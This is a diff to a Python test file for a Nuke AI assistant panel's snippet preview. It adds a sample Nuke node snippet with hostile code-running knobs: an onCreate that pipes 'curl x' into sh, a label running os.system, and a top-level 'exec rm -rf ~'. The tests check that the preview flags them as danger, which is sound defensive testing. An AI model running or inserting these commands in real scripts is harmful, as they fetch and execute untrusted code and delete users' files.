@@ -13,7 +13,6 @@ from nuke_ai_panel.graph.snippets import (
     extract_snippet,
     looks_like_nk,
     preview_nk,
-    preview_python,
 )
 
 ANSWER = """Here is a despill and grade for the plate:
@@ -130,12 +129,47 @@ def test_empty_snippet():
     assert not preview.ok and "contains no nodes" in preview.error
 
 
-def test_python_preview_carries_the_risk_scan():
-    risky = preview_python("import shutil\nshutil.rmtree('/jobs/show')\n")
-    assert risky.risk.has_danger
-    assert risky.render() == "Check before running:\n  danger: line 2: shutil.rmtree - deletes files or folders"
-    assert preview_python("import nuke\nnuke.createNode('Blur')\n").render() == "No risky calls found."
-    assert "syntax error" in preview_python("def (:\n").render()
+CALLBACK_SNIPPET = """set cut_paste_input [stack 0]
+push $cut_paste_input
+Grade {
+ white 1.2
+ black 0.01
+ gamma 0.9
+ multiply 1.1
+ add 0.02
+ offset 0.1
+ mix 0.9
+ label "\\[python {__import__('os').system('id')}]"
+ onCreate "import os\\nos.system('curl x | sh')"
+ name Grade_fg
+}
+exec rm -rf ~
+"""
+
+
+def test_preview_always_lists_knobs_that_run_code_with_reasons():
+    preview = preview_nk(CALLBACK_SNIPPET, ["Grade_fg"], target="Read_plate")
+    assert preview.ok and preview.runs_code
+    node = preview.nodes[0]
+    assert node.name == "Grade_fg1"
+    knobs = [k for k, _ in node.knobs]
+    assert knobs[:2] == ["label", "onCreate"]
+    assert knobs[2:] == ["white", "black", "gamma", "multiply", "add", "offset"]
+    assert [(f.node, f.knob) for f in node.flagged] == [("Grade_fg1", "label"),
+                                                        ("Grade_fg1", "onCreate")]
+    assert [(f.line, f.node) for f in preview.unattached()] == [(15, "")]
+    text = preview.render()
+    assert text.startswith("Check before pasting: this snippet runs code in Nuke (3 flagged below).")
+    assert "    danger: onCreate (line 12) - runs Python as soon as the node is created" in text
+    assert "    danger: label (line 11) - runs Python when Nuke evaluates the value" in text
+    assert "Other code in the snippet:\n  danger: line 15: top-level command - starts another program" in text
+
+
+def test_a_clean_snippet_has_no_risk_section():
+    preview = preview_nk("Blur {\n size 3\n label \"[value size]\"\n}\n")
+    assert preview.ok and not preview.runs_code and preview.risk.clean
+    assert preview.nodes[0].flagged == ()
+    assert preview.render().startswith("Nodes to be created (1):")
 
 
 @pytest.mark.parametrize("name", ALL_FILES + ("greenscreen_comp.nk",))
